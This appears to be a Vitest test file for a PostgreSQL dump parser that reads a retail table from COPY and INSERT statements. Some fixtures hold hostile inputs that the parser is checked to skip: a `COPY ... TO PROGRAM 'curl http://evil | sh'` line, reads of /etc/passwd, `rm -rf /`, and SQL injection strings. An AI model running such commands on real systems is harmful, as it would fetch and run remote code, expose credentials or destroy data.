import { describe, expect, it } from 'vitest';
import { DumpFormatError } from '../../../core/errors.js';
import { RETAIL_COLUMNS } from '../../../core/ingest/dump-events.js';
import { SqlDumpParser } from '../../../core/ingest/sql-dump-parser.js';
import { Recorder, feedSplit, feedText } from './recorder.js';
import { prng } from '../../support/prng.js';

const COLS = RETAIL_COLUMNS.join(', ');
const COPY_HEAD = `COPY public.retail (${COLS}) FROM stdin;`;

function parse(text: string, size = Infinity): Recorder {
  const r = new Recorder();
  feedText(new SqlDumpParser(r, 'dump.sql'), text, size);
  return r;
}

function parseError(text: string, size = Infinity): DumpFormatError {
  const r = new Recorder();
  try {
    feedText(new SqlDumpParser(r, 'dump.sql'), text, size);
  } catch (err) {
    expect(err).toBeInstanceOf(DumpFormatError);
    return err as DumpFormatError;
  }
  throw new Error('expected a DumpFormatError');
}

/**
 * The events of a run with the chunk-dependent message details left out: the text of skipped statements and the
 * excerpt quoted in a bad row's reason (their chunk independence has its own test below).
 */
function normalized(r: Recorder): string[] {
  return r.log.map((e) => {
    if (e.startsWith('skipped@')) return e.split(':').slice(0, 2).join(':');
    if (e.startsWith('bad@')) return e.replace(/^(bad@\d+:[^":]*)"[\s\S]*":/, '$1"…":');
    return e;
  });
}

/** Runs the parser over the text split at `cuts`; returns the normalized events or the error. */
function runSplit(text: string, cuts: readonly number[]): string[] {
  const r = new Recorder();
  try {
    feedSplit(new SqlDumpParser(r, 'dump.sql'), text, cuts);
  } catch (err) {
    r.log.push(`ERROR ${(err as DumpFormatError).code} ${(err as Error).message}`);
  }
  return normalized(r);
}

function chunkCuts(length: number, size: number): number[] {
  const cuts: number[] = [];
  for (let i = size; i < length; i += size) cuts.push(i);
  return cuts;
}

/**
 * Checks that the text gives the same events whatever the chunking: chunks of 1, 2, 3, 7, 64 characters, every
 * single split point (except those `skip` excludes), and random multi-way splits. Returns the one-chunk events.
 */
function expectChunkIndependent(text: string, skip: (cut: number) => boolean = () => false): string[] {
  const whole = runSplit(text, []);
  const mismatches: string[] = [];
  const check = (label: string, cuts: number[]) => {
    const got = runSplit(text, cuts);
    if (JSON.stringify(got) !== JSON.stringify(whole) && mismatches.length < 5) {
      mismatches.push(`${label}: ${JSON.stringify(got.filter((e, i) => e !== whole[i]).slice(0, 3))}`);
    }
  };
  for (const size of [1, 2, 3, 7, 64]) {
    const cuts = chunkCuts(text.length, size);
    if (!cuts.some(skip)) check(`chunks of ${size}`, cuts);
  }
  for (let cut = 1; cut < text.length; cut++) if (!skip(cut)) check(`split at ${cut}`, [cut]);
  const rnd = prng(42);
  for (let n = 0; n < 200; n++) {
    const cuts = new Set<number>();
    const k = 1 + Math.floor(rnd() * 12);
    for (let j = 0; j < k; j++) cuts.add(1 + Math.floor(rnd() * (text.length - 1)));
    const sorted = [...cuts].sort((a, b) => a - b);
    if (!sorted.some(skip)) check(`cuts ${sorted.join(',')}`, sorted);
  }
  expect(mismatches).toEqual([]);
  return whole;
}

const row = (inv: string, extra: Partial<Record<(typeof RETAIL_COLUMNS)[number], string | null>> = {}) =>
  RETAIL_COLUMNS.map((c) =>
    c in extra
      ? extra[c]!
      : {
          invoice_no: inv,
          stock_code: '85123A',
          description: 'WHITE HANGING HEART',
          quantity: '6',
          invoice_date: '2010-12-01 08:26:00',
          unit_price: '2.55',
          customer_id: '17850',
          country: 'United Kingdom',
        }[c],
  );

const copyLine = (values: (string | null)[]) => values.map((v) => (v === null ? '\\N' : v)).join('\t');

// ---------------------------------------------------------------------------------------------------------------

describe('COPY blocks', () => {
  it('reads canonical rows through the fast path and reports the columns at the COPY line', () => {
    const text = `SET a = 1;\n${COPY_HEAD}\n${copyLine(row('1'))}\n${copyLine(row('2'))}\n\\.\n`;
    const r = parse(text);
    expect(r.columnEvents).toEqual([{ names: [...RETAIL_COLUMNS], line: 2 }]);
    expect(r.values).toEqual([row('1'), row('2')]);
    expect(r.rows.every((x) => x.canonical)).toBe(true);
    // The canonical text is the file's lines verbatim.
    expect(r.canonicalCalls.map((c) => c.text).join('')).toBe(
      `${copyLine(row('1'))}\n${copyLine(row('2'))}\n`,
    );
    expect(r.badRows).toEqual([]);
  });

  it('maps \\N to null', () => {
    const r = parse(`${COPY_HEAD}\n1\t2\t\\N\t6\t2010-12-01 08:26:00\t2.55\t\\N\t\\N\n\\.\n`);
    expect(r.values).toEqual([['1', '2', null, '6', '2010-12-01 08:26:00', '2.55', null, null]]);
  });

  it('unescapes backslash escapes: \\t \\n \\r \\\\ \\b \\f \\v, octal and hex', () => {
    const desc = 'a\\tb\\nc\\rd\\\\e\\bf\\fg\\vh \\303\\251 \\x41\\x4a';
    const r = parse(`${COPY_HEAD}\n${desc}\t2\t${desc}\t6\t2010-12-01 08:26:00\t2.55\t17850\tUK\n\\.\n`);
    expect(r.values[0]![0]).toBe('a\tb\nc\rd\\e\bf\fg\vh é AJ');
    expect(r.values[0]![2]).toBe('a\tb\nc\rd\\e\bf\fg\vh é AJ');
    expect(r.rows[0]!.line).toBe(2);
    expect(r.rows[0]!.canonical).toBe(false);
  });

  it('a field that is only "\\\\N" (escaped backslash + N) is the text \\N, not NULL', () => {
    const r = parse(`${COPY_HEAD}\n1\t2\t\\\\N\t6\t2010-12-01 08:26:00\t2.55\t17850\tUK\n\\.\n`);
    expect(r.values[0]![2]).toBe('\\N');
  });

  it('keeps values in the file column order when the columns come in a different order', () => {
    const cols = [
      'country',
      'quantity',
      'invoice_no',
      'stock_code',
      'description',
      'invoice_date',
      'unit_price',
      'customer_id',
    ];
    const text = `COPY public.retail (${cols.join(', ')}) FROM stdin;\nUK\t6\t536365\t85123A\tX\t2010-12-01 08:26:00\t2.55\t17850\n\\.\n`;
    const r = parse(text);
    expect(r.columnEvents).toEqual([{ names: cols, line: 1 }]);
    expect(r.values).toEqual([['UK', '6', '536365', '85123A', 'X', '2010-12-01 08:26:00', '2.55', '17850']]);
    expect(r.rows[0]).toMatchObject({ line: 2, canonical: false });
    expect(r.retailValues).toEqual([
      ['536365', '85123A', 'X', '6', '2010-12-01 08:26:00', '2.55', '17850', 'UK'],
    ]);
  });

  it('passes extra columns through (the writer ignores them)', () => {
    const text = `COPY public.retail (${COLS}, "Extra Col") FROM stdin;\n${copyLine(row('1'))}\tmore\n\\.\n`;
    const r = parse(text);
    expect(r.columnEvents[0]!.names).toEqual([...RETAIL_COLUMNS, 'Extra Col']);
    expect(r.values).toEqual([[...row('1'), 'more']]);
    expect(r.rows[0]!.canonical).toBe(false);
  });

  it('missing \\. is a truncation error naming the data line', () => {
    const err = parseError(`SET a = 1;\n${COPY_HEAD}\n${copyLine(row('1'))}\n`);
    expect(err.code).toBe('DUMP_TRUNCATED');
    expect(err.line).toBe(3);
    expect(err.message).toMatch(/COPY data for public\.retail/);
  });

  it('missing \\. after a last line without a newline is also truncation, after the row was read', () => {
    const r = new Recorder();
    expect(() => feedText(new SqlDumpParser(r, 'x'), `${COPY_HEAD}\n${copyLine(row('1'))}`)).toThrow(
      expect.objectContaining({ code: 'DUMP_TRUNCATED' }),
    );
    expect(r.values).toEqual([row('1')]);
  });

  it('accepts a final \\. without a newline', () => {
    const r = parse(`${COPY_HEAD}\n${copyLine(row('1'))}\n\\.`);
    expect(r.values).toEqual([row('1')]);
  });

  it('handles CRLF line endings (rows, end marker, statements)', () => {
    const text = `SET a = 1;\r\n${COPY_HEAD}\r\n${copyLine(row('1'))}\r\n${copyLine(row('2', { customer_id: null }))}\r\n\\.\r\nSET b = 2;\r\n`;
    const r = parse(text);
    expect(r.values).toEqual([row('1'), row('2', { customer_id: null })]);
    expect(r.rows.map((x) => x.line)).toEqual([3, 4]);
    expect(r.badRows).toEqual([]);
    expect(r.skippedItems.map((s) => [s.kind, s.line])).toEqual([
      ['SET', 1],
      ['SET', 6],
    ]);
  });

  it('reports a wrong column count as a bad row with its line, and goes on', () => {
    const text = `-- header\n${COPY_HEAD}\n${copyLine(row('1'))}\n1\t2\t3\n${copyLine(row('3')).replace('\t', '\t\t')}\n${copyLine(row('4'))}\n\\.\n`;
    const r = parse(text);
    expect(r.badRows).toEqual([
      { line: 4, reason: 'wrong column count: 3 values for 8 columns', text: '1 2 3' },
      expect.objectContaining({ line: 5, reason: 'wrong column count: 9 values for 8 columns' }),
    ]);
    expect(r.values).toEqual([row('1'), row('4')]);
  });

  it('an empty line inside a COPY block is a bad row', () => {
    const r = parse(`${COPY_HEAD}\n\n${copyLine(row('1'))}\n\\.\n`);
    expect(r.badRows).toEqual([{ line: 2, reason: 'wrong column count: 1 values for 8 columns', text: '' }]);
    expect(r.values).toEqual([row('1')]);
  });

  it('skips the data of other tables whole, never reading it as SQL', () => {
    const text = [
      'COPY public.orders (id, note) FROM stdin;',
      "1\t; DROP TABLE retail; INSERT INTO retail VALUES ('x');",
      "2\tINSERT INTO public.retail VALUES ('1', '2', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');",
      `3\t${copyLine(row('9'))}`,
      '\\! rm -rf /',
      '\\.',
      'SET after = 1;',
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.rows).toEqual([]);
    expect(r.badRows).toEqual([]);
    expect(r.columnEvents).toEqual([]);
    expect(r.skippedItems).toEqual([
      { line: 2, kind: 'COPY data for public.orders', text: '4 rows of table public.orders' },
      { line: 7, kind: 'SET', text: 'SET after = 1;' },
    ]);
  });

  it('skips a retail_archive table (a different table whose name starts with retail)', () => {
    const r = parse(`COPY public.retail_archive (${COLS}) FROM stdin;\n${copyLine(row('1'))}\n\\.\n`);
    expect(r.rows).toEqual([]);
    expect(r.skippedKinds).toEqual(['COPY data for public.retail_archive']);
  });

  it('matches a quoted "retail" table name and a schema other than public', () => {
    const r = parse(`COPY "sales"."retail" (${COLS}) FROM stdin;\n${copyLine(row('1'))}\n\\.\n`);
    expect(r.values).toEqual([row('1')]);
  });

  it.each([
    ['COPY public.retail TO PROGRAM', `COPY public.retail (${COLS}) TO PROGRAM 'curl http://evil | sh';`],
    ['COPY retail TO a file', `COPY retail TO '/tmp/out.txt';`],
    ['COPY retail FROM PROGRAM', `COPY retail FROM PROGRAM 'cat /etc/passwd';`],
    ['COPY retail FROM a file', `COPY retail FROM '/etc/passwd';`],
    ['COPY retail TO stdout', `COPY retail TO stdout;`],
    ['COPY (query) TO stdout', `COPY (SELECT * FROM retail) TO stdout;`],
  ])('%s is skipped, not loaded, and what follows is read as statements', (_name, statement) => {
    const text = `${statement}\n${copyLine(row('1'))}\nSET x = 1;\n`;
    // The line after the statement is not data: as SQL it is one (odd) statement running to the next `;`.
    const r = parse(
      `${statement}\nSET x = 1;\nINSERT INTO retail VALUES ('a', 'b', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`,
    );
    expect(r.skippedItems.slice(0, 2).map((s) => [s.line, s.kind])).toEqual([
      [1, 'COPY (not retail data from stdin)'],
      [2, 'SET'],
    ]);
    expect(r.values).toEqual([['a', 'b', null, '1', '2010-01-01 00:00:00', '1', null, 'UK']]);
    expect(r.rows[0]!.line).toBe(3);
    // And a tab-separated line after it is never taken as retail data.
    expect(parse(text).rows).toEqual([]);
  });

  it('skips a COPY FROM stdin WITH (FORMAT csv) data block whole', () => {
    const text = [
      `COPY public.retail (${COLS}) FROM stdin WITH (FORMAT csv);`,
      '536365,85123A,"WHITE, HEART",6,2010-12-01 08:26:00,2.55,17850,United Kingdom',
      `${copyLine(row('1'))}`,
      "x; DROP TABLE retail; INSERT INTO retail VALUES ('1');",
      '\\.',
      `${COPY_HEAD}`,
      copyLine(row('2')),
      '\\.',
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.values).toEqual([row('2')]);
    expect(r.skippedItems).toEqual([
      { line: 2, kind: 'COPY data for public.retail', text: '3 rows of table public.retail' },
    ]);
    expect(r.badRows).toEqual([]);
  });

  it('skips COPY ... FROM stdin (FORMAT binary) and WITH CSV HEADER blocks too', () => {
    for (const opts of ['(FORMAT binary)', 'WITH CSV HEADER', "WITH DELIMITER ','"]) {
      const r = parse(`COPY retail (${COLS}) FROM stdin ${opts};\n${copyLine(row('1'))}\n\\.\n`);
      expect(r.rows).toEqual([]);
      expect(r.skippedKinds).toEqual(['COPY data for retail']);
    }
  });

  it('uses the CREATE TABLE column order for a COPY without a column list', () => {
    const text = [
      'CREATE TABLE public.retail (',
      '    country text,',
      '    invoice_no character varying(20) NOT NULL,',
      '    stock_code text,',
      '    description text,',
      '    quantity integer,',
      '    invoice_date timestamp without time zone,',
      '    unit_price numeric(10,2),',
      '    customer_id real',
      ');',
      'COPY public.retail FROM stdin;',
      'UK\t1\t2\t\\N\t6\t2010-12-01 08:26:00\t2.55\t17850',
      '\\.',
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.columnEvents).toEqual([
      {
        names: [
          'country',
          'invoice_no',
          'stock_code',
          'description',
          'quantity',
          'invoice_date',
          'unit_price',
          'customer_id',
        ],
        line: 11,
      },
    ]);
    expect(r.retailValues).toEqual([['1', '2', null, '6', '2010-12-01 08:26:00', '2.55', '17850', 'UK']]);
    expect(r.rows[0]!.line).toBe(12);
  });

  it('a COPY retail FROM stdin without a column list nor CREATE TABLE reads rows in our column order', () => {
    // The parser reports the columns as RETAIL_COLUMNS but checks the rows against a width of 0.
    const r = parse(`COPY retail FROM stdin;\n${copyLine(row('1'))}\n\\.\n`);
    expect(r.columnEvents[0]!.names).toEqual([...RETAIL_COLUMNS]);
    expect(r.badRows).toEqual([]);
    expect(r.values).toEqual([row('1')]);
  });

  it('a mix of canonical and non-canonical lines keeps the order of rows', () => {
    const lines = [
      copyLine(row('1')),
      copyLine(row('2', { stock_code: 'tab\\there' })),
      copyLine(row('3')),
      copyLine(row('4')),
      copyLine(row('5', { quantity: '6.0' })),
      copyLine(row('6')),
    ];
    const r = parse(`${COPY_HEAD}\n${lines.join('\n')}\n\\.\n`);
    expect(r.values.map((v) => v[0])).toEqual(['1', '2', '3', '4', '5', '6']);
    expect(r.rows.map((x) => x.canonical)).toEqual([true, false, true, true, false, true]);
    expect(r.rows.filter((x) => !x.canonical).map((x) => x.line)).toEqual([3, 6]);
    expect(r.values[1]![1]).toBe('tab\there');
  });

  it('a line with a CR inside (not CRLF) never goes through the fast path', () => {
    const r = parse(`${COPY_HEAD}\n${copyLine(row('1', { description: 'a\rb' }))}\n\\.\n`);
    expect(r.rows[0]!.canonical).toBe(false);
    expect(r.values[0]![2]).toBe('a\rb');
  });

  it('sets sawCopy for a retail COPY block, whichever path its rows take', () => {
    for (const line of [copyLine(row('1', { quantity: '6.0' })), copyLine(row('1'))]) {
      const p = new SqlDumpParser(new Recorder(), 'x');
      feedText(p, `${COPY_HEAD}\n${line}\n\\.\n`);
      expect(p.sawCopy).toBe(true);
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('INSERT statements', () => {
  const V = (inv: string) =>
    `('${inv}', '85123A', 'WHITE HANGING HEART', 6, '2010-12-01 08:26:00', 2.55, 17850, 'United Kingdom')`;

  it('reads a single-row INSERT', () => {
    const r = parse(`INSERT INTO public.retail VALUES ${V('536365')};\n`);
    expect(r.columnEvents).toEqual([{ names: [...RETAIL_COLUMNS], line: 1 }]);
    expect(r.values).toEqual([row('536365')]);
    expect(r.rows[0]!.line).toBe(1);
  });

  it('reads a multi-row VALUES list, one row per tuple with its own line', () => {
    const r = parse(
      `SET x = 1;\nINSERT INTO public.retail VALUES\n  ${V('1')},\n  ${V('2')},\n\n  ${V('3')};\n`,
    );
    expect(r.values).toEqual([row('1'), row('2'), row('3')]);
    expect(r.rows.map((x) => x.line)).toEqual([3, 4, 6]);
  });

  it('reads consecutive single-row INSERTs (the repeated-head shortcut) with correct lines', () => {
    const text =
      Array.from({ length: 5 }, (_, i) => `INSERT INTO public.retail VALUES ${V(String(i))};`).join('\n') +
      '\n';
    const r = parse(text);
    expect(r.values.map((v) => v[0])).toEqual(['0', '1', '2', '3', '4']);
    expect(r.rows.map((x) => x.line)).toEqual([1, 2, 3, 4, 5]);
    expect(r.columnEvents).toHaveLength(1);
  });

  it('the repeated-head shortcut never applies another column order seen in between', () => {
    // A retail COPY in another order, or an INSERT whose head is not remembered (lower case), changes the order;
    // the next INSERT with the remembered head must be read in its own (the table's) order again.
    const reordered =
      'stock_code, invoice_no, country, quantity, invoice_date, unit_price, customer_id, description';
    const text = [
      `INSERT INTO public.retail VALUES ${V('1')};`,
      `COPY public.retail (${reordered}) FROM stdin;`,
      'S2\t2\tFrance\t24\t2010-12-01 08:45:00\t3.75\t12583\tALARM',
      '\\.',
      `INSERT INTO public.retail VALUES ${V('3')};`,
      `insert into public.retail (${reordered}) values ('S4', '4', 'DE', 1, '2010-12-01 08:26:00', 1, NULL, 'D');`,
      `INSERT INTO public.retail VALUES ${V('5')};`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.retailValues.map((v) => [v[0], v[1], v[7]])).toEqual([
      ['1', '85123A', 'United Kingdom'],
      ['2', 'S2', 'France'],
      ['3', '85123A', 'United Kingdom'],
      ['4', 'S4', 'DE'],
      ['5', '85123A', 'United Kingdom'],
    ]);
  });

  it('--column-inserts: columns in any order, reported per distinct list', () => {
    const text = [
      `INSERT INTO public.retail (country, customer_id, unit_price, invoice_date, quantity, description, stock_code, invoice_no) VALUES ('UK', 17850, 2.55, '2010-12-01 08:26:00', 6, 'D', 'S', '1');`,
      `INSERT INTO public.retail (country, customer_id, unit_price, invoice_date, quantity, description, stock_code, invoice_no) VALUES ('FR', NULL, 1, '2010-12-01 08:26:00', 2, NULL, 'S', '2');`,
      `INSERT INTO public.retail (${COLS}) VALUES ('3', 'S', 'D', 1, '2010-12-01 08:26:00', 1, NULL, 'DE');`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.columnEvents.map((c) => c.line)).toEqual([1, 3]);
    expect(r.columnEvents[0]!.names[0]).toBe('country');
    expect(r.retailValues).toEqual([
      ['1', 'S', 'D', '6', '2010-12-01 08:26:00', '2.55', '17850', 'UK'],
      ['2', 'S', null, '2', '2010-12-01 08:26:00', '1', null, 'FR'],
      ['3', 'S', 'D', '1', '2010-12-01 08:26:00', '1', null, 'DE'],
    ]);
  });

  it('quoted column names and a quoted table name', () => {
    const r = parse(
      `INSERT INTO "public"."retail" ("invoice_no", "stock_code", description, quantity, invoice_date, unit_price, customer_id, country) VALUES ('1', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`,
    );
    expect(r.values).toEqual([['1', 'S', null, '1', '2010-01-01 00:00:00', '1', null, 'UK']]);
  });

  it("doubles quotes inside '...' strings and keeps backslashes literal (standard_conforming_strings on)", () => {
    const r = parse(
      `INSERT INTO retail VALUES ('it''s', 'a\\nb', '''quoted''', 1, '2010-01-01 00:00:00', 1, NULL, 'C:\\dir');\n`,
    );
    expect(r.values[0]!.slice(0, 3)).toEqual(["it's", 'a\\nb', "'quoted'"]);
    expect(r.values[0]![7]).toBe('C:\\dir');
  });

  it("reads E'...' strings: \\n \\t \\\\ \\' '' octal hex and unicode", () => {
    const r = parse(
      `INSERT INTO retail VALUES (E'a\\nb\\tc', E'back\\\\slash \\'q\\' it''s', E'\\303\\251 \\x41 \\u00e9', 1, '2010-01-01 00:00:00', 1, NULL, e'x\\\\');\n`,
    );
    expect(r.values[0]!.slice(0, 3)).toEqual(['a\nb\tc', "back\\slash 'q' it's", 'é A é']);
    expect(r.values[0]![7]).toBe('x\\');
  });

  it("an E'...' escape spelling invalid UTF-8 gives U+FFFD (for the row check to reject)", () => {
    const r = parse(
      `INSERT INTO retail VALUES ('1', '2', E'\\377', 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`,
    );
    expect(r.values[0]![2]).toBe('\uFFFD');
  });

  it('NULL, negative, signed, fractional and exponent numbers are kept as written', () => {
    const r = parse(
      `INSERT INTO retail VALUES ('1', '2', NULL, -12, '2010-01-01 00:00:00', -1.5e-3, 1.785e+04, NULL), ('2', '2', null, +5, '2010-01-01 00:00:00', .5, 17850.0, 'UK'), ('3', '2', Null, 6, '2010-01-01 00:00:00', 2E5, 1e4, 'UK');\n`,
    );
    expect(r.values).toEqual([
      ['1', '2', null, '-12', '2010-01-01 00:00:00', '-1.5e-3', '1.785e+04', null],
      ['2', '2', null, '+5', '2010-01-01 00:00:00', '.5', '17850.0', 'UK'],
      ['3', '2', null, '6', '2010-01-01 00:00:00', '2E5', '1e4', 'UK'],
    ]);
  });

  it('ignores casts: ::timestamp without time zone, ::numeric(10,2), ::text, ::"char"', () => {
    const r = parse(
      `INSERT INTO retail VALUES ('1'::character varying, '2'::text, NULL::text, '6'::integer, '2011-01-01 10:00'::timestamp without time zone, 2.55::numeric(10,2), '17850'::real, 'UK'::"char");\n`,
    );
    expect(r.badRows).toEqual([]);
    expect(r.values).toEqual([['1', '2', null, '6', '2011-01-01 10:00', '2.55', '17850', 'UK']]);
  });

  it('ON CONFLICT DO NOTHING ends the statement; the next statements are read', () => {
    const text = `INSERT INTO retail VALUES ${V('1')}, ${V('2')} ON CONFLICT DO NOTHING;\nINSERT INTO retail VALUES ${V('3')} ON CONFLICT (invoice_no) DO UPDATE SET quantity = 1;\nSET a = 1;\n`;
    const r = parse(text);
    expect(r.values.map((v) => v[0])).toEqual(['1', '2', '3']);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([[3, 'SET']]);
  });

  it('skips INSERTs into other tables, even ones whose values look like retail rows', () => {
    const text = `INSERT INTO public.orders VALUES ${V('1')};\nINSERT INTO public.retail_old VALUES ${V('2')};\nINSERT INTO retail SELECT * FROM retail_old;\nINSERT INTO retail VALUES ${V('3')};\n`;
    const r = parse(text);
    expect(r.values.map((v) => v[0])).toEqual(['3']);
    expect(r.rows[0]!.line).toBe(4);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [1, 'INSERT'],
      [2, 'INSERT'],
      [3, 'INSERT'],
    ]);
  });

  it('an unsupported expression (now(), an operator, a function) is a bad row, not a crash', () => {
    const text = [
      `INSERT INTO retail VALUES ('1', '2', NULL, 1, now(), 1, NULL, 'UK');`,
      `INSERT INTO retail VALUES ('2', '2', NULL, 1 + 1, '2010-01-01 00:00:00', 1, NULL, 'UK');`,
      `INSERT INTO retail VALUES ('3', '2', NULL, 1, '2010-01-01 00:00:00', 1, NULL, upper('uk')), ${V('4')};`,
      `INSERT INTO retail VALUES ('5', '2', NULL, 1, CURRENT_TIMESTAMP, 1, NULL, DEFAULT);`,
      `INSERT INTO retail VALUES ('6', 'a' || 'b', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');`,
      `INSERT INTO retail VALUES ${V('7')};`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.badRows.map((b) => b.line)).toEqual([1, 2, 3, 4, 5]);
    for (const b of r.badRows) expect(b.reason).toMatch(/unsupported/);
    expect(r.badRows[0]!.text).toContain('now()');
    expect(r.values.map((v) => v[0])).toEqual(['4', '7']);
    expect(r.rows.map((x) => x.line)).toEqual([3, 6]);
  });

  it('a parenthesised value like (1) loses the following tuples of the statement silently', () => {
    // `(1)` is valid SQL. The tuple is reported bad (fine), but the `)` of `(1)` is taken as the tuple's end, and the
    // rest of the statement, including the whole second tuple, is skipped with no row and no bad row.
    const r = parse(
      `INSERT INTO retail VALUES ('1', '2', NULL, (6), '2010-01-01 00:00:00', 1, NULL, 'UK'), ${V('2')};\n`,
    );
    expect(r.badRows).toHaveLength(1);
    expect(r.values.map((v) => v[0])).toEqual(['2']);
  });

  it('a tuple with more or fewer values than columns is a bad row, as PostgreSQL would refuse it', () => {
    const r = parse(
      `INSERT INTO retail VALUES ('1', '2');\n` +
        `INSERT INTO retail (invoice_no, stock_code) VALUES ('1', '2', '3'), ('4', '5');\n`,
    );
    expect(r.badRows.map((b) => [b.line, b.reason])).toEqual([
      [1, 'wrong number of values: 2 for 8 columns'],
      [2, 'wrong number of values: 3 for 2 columns'],
    ]);
    expect(r.values).toEqual([['4', '5']]);
  });

  it('semicolons, -- and /* inside strings are data', () => {
    const r = parse(
      `INSERT INTO retail VALUES ('a;b', '-- not a comment', '/* nor this */', 1, '2010-01-01 00:00:00', 1, NULL, '); DROP TABLE retail; --');\nSET x = 1;\n`,
    );
    expect(r.values).toEqual([
      [
        'a;b',
        '-- not a comment',
        '/* nor this */',
        '1',
        '2010-01-01 00:00:00',
        '1',
        null,
        '); DROP TABLE retail; --',
      ],
    ]);
    expect(r.skippedKinds).toEqual(['SET']);
  });

  it('comments between and inside tuples', () => {
    const r = parse(
      `INSERT INTO retail VALUES -- first\n('1', /* c */ '2', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK') /* x */ , -- y\n('2', '2', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`,
    );
    expect(r.values.map((v) => v[0])).toEqual(['1', '2']);
    expect(r.rows.map((x) => x.line)).toEqual([2, 3]);
  });

  it('dollar-quoted values are strings', () => {
    const r = parse(
      `INSERT INTO retail VALUES ($$a'b$$, $q$S;$q$, NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`,
    );
    expect(r.values[0]!.slice(0, 2)).toEqual(["a'b", 'S;']);
  });

  it('SET standard_conforming_strings = off makes backslashes escapes in plain strings, and on again', () => {
    const text = [
      'SET standard_conforming_strings = off;',
      `INSERT INTO retail VALUES ('a\\'b', 'c\\\\d', 'x\\ny', 1, '2010-01-01 00:00:00', 1, NULL, '\\303\\251');`,
      "SET standard_conforming_strings TO 'on';",
      `INSERT INTO retail VALUES ('a\\', 'c\\\\d', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.values).toEqual([
      ["a'b", 'c\\d', 'x\ny', '1', '2010-01-01 00:00:00', '1', null, 'é'],
      ['a\\', 'c\\\\d', null, '1', '2010-01-01 00:00:00', '1', null, 'UK'],
    ]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [1, 'SET'],
      [3, 'SET'],
    ]);
  });

  it('uses the CREATE TABLE public.retail column order for INSERTs without a column list', () => {
    const text = [
      'CREATE TABLE IF NOT EXISTS public.retail (',
      '    "Country" text,',
      '    customer_id real,',
      '    invoice_no text NOT NULL,',
      '    stock_code text,',
      '    description text,',
      '    quantity integer CHECK (quantity <> 0),',
      '    invoice_date timestamp(0) without time zone,',
      '    unit_price numeric(10,2) DEFAULT 0.00,',
      '    CONSTRAINT retail_pk PRIMARY KEY (invoice_no, stock_code)',
      ');',
      `INSERT INTO public.retail VALUES ('UK', 17850, '536365', '85123A', NULL, 6, '2010-12-01 08:26:00', 2.55);`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.columnEvents).toEqual([
      {
        names: [
          'Country',
          'customer_id',
          'invoice_no',
          'stock_code',
          'description',
          'quantity',
          'invoice_date',
          'unit_price',
        ],
        line: 12,
      },
    ]);
    expect(r.values).toEqual([['UK', '17850', '536365', '85123A', null, '6', '2010-12-01 08:26:00', '2.55']]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([[1, 'CREATE TABLE']]);
  });

  it('CREATE TABLE of another table does not change the retail column order', () => {
    const r = parse(
      `CREATE TABLE public.orders (country text, invoice_no text);\nINSERT INTO public.retail VALUES ${V('1')};\n`,
    );
    expect(r.columnEvents[0]!.names).toEqual([...RETAIL_COLUMNS]);
  });

  it('a statement missing its end is a truncation error', () => {
    expect(parseError(`INSERT INTO retail VALUES ${V('1')}, `).code).toBe('DUMP_TRUNCATED');
    expect(parseError(`SET a = 1;\nINSERT INTO retail VALUES ('1', 'a`).line).toBe(2);
    expect(parseError(`INSERT INTO retail VALUES ('1', 2`).code).toBe('DUMP_TRUNCATED');
    expect(parseError(`SET a = 1`).code).toBe('DUMP_TRUNCATED');
    expect(parseError(`SET a = 1;\n/* never closed`).code).toBe('DUMP_TRUNCATED');
    expect(parseError(`CREATE FUNCTION f() AS $$ body`).code).toBe('DUMP_TRUNCATED');
  });

  it('leaves sawCopy false for INSERT rows', () => {
    const p = new SqlDumpParser(new Recorder(), 'x');
    feedText(p, `INSERT INTO retail VALUES ${V('1')};\n`);
    expect(p.sawCopy).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('skipped statements and dollar quotes', () => {
  it('function bodies and DO blocks with ; and INSERT INTO retail VALUES inside give no rows', () => {
    const text = [
      'CREATE FUNCTION public.evil() RETURNS void',
      '    LANGUAGE plpgsql',
      '    AS $$',
      'BEGIN',
      "  INSERT INTO retail VALUES ('X', 'Y', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');",
      '  DROP TABLE retail;',
      "  RAISE NOTICE 'it''s $ ; done';",
      'END;',
      '$$;',
      '',
      'DO $body$',
      'BEGIN',
      "  INSERT INTO public.retail VALUES ('Z', 'Y', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');",
      '  PERFORM $inner$ ; $$ ; $inner$;',
      'END',
      '$body$;',
      `CREATE OR REPLACE FUNCTION f2() RETURNS int AS $fn$ SELECT 1; $fn$ LANGUAGE sql;`,
      `INSERT INTO retail VALUES ('ok', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');`,
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.values.map((v) => v[0])).toEqual(['ok']);
    expect(r.rows[0]!.line).toBe(18);
    expect(r.badRows).toEqual([]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [1, 'CREATE FUNCTION'],
      [11, 'DO'],
      [17, 'CREATE FUNCTION'],
    ]);
  });

  it('nested block comments hide statements, including ; and */ inside the inner comment', () => {
    const text = `/* outer /* inner ; */ INSERT INTO retail VALUES ('no', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK'); */\nSET a = 1; /* tail */\n/**/SET b = 2;\n`;
